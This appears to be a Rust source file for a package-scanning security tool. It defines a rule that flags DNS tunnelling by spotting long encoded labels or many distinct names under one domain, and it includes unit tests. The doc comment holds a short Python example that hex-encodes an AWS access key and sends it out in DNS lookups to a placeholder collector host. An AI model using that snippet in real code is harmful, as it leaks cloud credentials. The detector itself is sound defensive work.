use std::collections::{BTreeMap, BTreeSet};

use ossprey_model::{Category, Finding, Severity};
use serde_json::json;

use super::events::{behaviour_finding, is_local_name, is_registry_host, phases};
use super::{BehaviourInput, BehaviourRule, behaviour_rule};

/// Shortest label that counts as "long and encoded".
const LONG_LABEL: usize = 24;
/// Distinct names under one domain in one phase that make a tunnel's shape.
const MANY_NAMES: usize = 10;

/// ## What it does
/// Looks at the DNS names each phase asked for and reports a domain when the names
/// under it carry data: a label of 24 or more characters drawn from an encoding's
/// alphabet (hex, or base32/base64url with both letters and digits), or 10 or more
/// distinct names under one domain in one phase. Both together weigh critical.
///
/// ## Why is this bad?
/// DNS is the channel that crosses most firewalls: malware splits stolen data into
/// labels (`<hex>.<hex>.0.d.attacker.example`) and the attacker's name server
/// collects them. Ordinary hosts have short, word-like labels and a handful of names
/// per domain.
///
/// ## Example
/// ```python
/// data = os.environ["AWS_ACCESS_KEY_ID"].encode().hex()
/// socket.gethostbyname(f"{data[:30]}.{data[30:]}.0.d.collector.example")
/// ```
#[derive(Debug)]
pub struct DnsTunnel;

behaviour_rule!(
    DnsTunnel,
    "DYN-DNS-TUNNEL",
    Category::EXFILTRATION,
    "DNS names shaped like a tunnel: long encoded labels or many unique names under one domain"
);

/// The domain a name belongs to: its last two labels, three under a two-letter
/// country code with a generic second level (`example.co.uk`).
fn domain_of(name: &str) -> String {
    let labels: Vec<&str> = name.split('.').filter(|l| !l.is_empty()).collect();
    let n = labels.len();
    let take = if n >= 3
        && labels.get(n - 1).is_some_and(|l| l.len() == 2)
        && labels
            .get(n - 2)
            .is_some_and(|l| ["co", "com", "net", "org", "gov", "ac", "edu"].contains(l))
    {
        3
    } else {
        2
    };
    labels[n.saturating_sub(take)..].join(".")
}

/// Whether a label looks like encoded data rather than a word or a host name.
fn is_encoded_label(label: &str) -> bool {
    if label.len() < LONG_LABEL {
        return false;
    }
    let hex = label.bytes().all(|b| b.is_ascii_hexdigit());
    let alnum = label
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || b == b'_');
    let digits = label.bytes().filter(u8::is_ascii_digit).count();
    let letters = label.bytes().filter(u8::is_ascii_alphabetic).count();
    // Words have few digits; encoded data spreads them through (hex: ~40 %,
    // base32/base64: ~15–20 %). A hex label of only letters (`deadbeef…`) is rare.
    hex && digits > 0 || alnum && digits * 10 >= label.len() && letters > 0
}

impl BehaviourRule for DnsTunnel {
    fn check_behaviour(&self, input: &BehaviourInput<'_>, out: &mut Vec<Finding>) {
        for (key, phase) in phases(input.dynamic) {
            // domain → (distinct names, names with an encoded label)
            let mut by_domain: BTreeMap<String, (BTreeSet<String>, BTreeSet<String>)> =
                BTreeMap::new();
            for q in &phase.network.dns {
                let name = q.hostname.trim_end_matches('.').to_ascii_lowercase();
                if name.is_empty()
                    || is_local_name(&name)
                    || is_registry_host(&name, input.ecosystem())
                {
                    continue;
                }
                let entry = by_domain.entry(domain_of(&name)).or_default();
                if name.split('.').any(is_encoded_label) {
                    entry.1.insert(name.clone());
                }
                entry.0.insert(name);
            }
            for (domain, (names, encoded)) in by_domain {
                let many = names.len() >= MANY_NAMES;
                if encoded.is_empty() && !many {
                    continue;
                }
                let severity = if many && !encoded.is_empty() {
                    Severity::Critical
                } else {
                    Severity::High
                };
                let shape = match (encoded.is_empty(), many) {
                    (false, true) => format!(
                        "{} distinct names, {} with long encoded labels",
                        names.len(),
                        encoded.len()
                    ),
                    (false, false) => format!("{} name(s) with long encoded labels", encoded.len()),
                    (true, _) => format!("{} distinct names", names.len()),
                };
                let examples: Vec<&String> = encoded.iter().chain(names.iter()).take(5).collect();
                let first = examples.first().map(|s| s.as_str()).unwrap_or_default();
                out.push(behaviour_finding(
                    self,
                    severity,
                    format!(
                        "{key} phase queried DNS names under {domain} shaped like a tunnel: {shape}"
                    ),
                    key,
                    "dns",
                    json!({
                        "domain": domain,
                        "distinct_names": names.len(),
                        "encoded_names": encoded.len(),
                        "examples": examples,
                    }),
                    &format!("DNS query {first}"),
                ));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn encoded_labels_are_told_from_host_names() {
        assert!(is_encoded_label("414b494136484c41524954424a4a4b"));
        assert!(is_encoded_label("mfrggzdfmztwq2lknnwg23tpobyxe3ltmfrgg"));
        assert!(!is_encoded_label("internal-loadbalancer-production"));
        assert!(!is_encoded_label("short1234"));
        assert!(!is_encoded_label("abcdefabcdefabcdefabcdefabcdef"));
        assert_eq!(domain_of("a.b.0.d.exfil.example.test"), "example.test");
        assert_eq!(domain_of("x.y.example.co.uk"), "example.co.uk");
        assert_eq!(domain_of("localhost"), "localhost");
    }
}
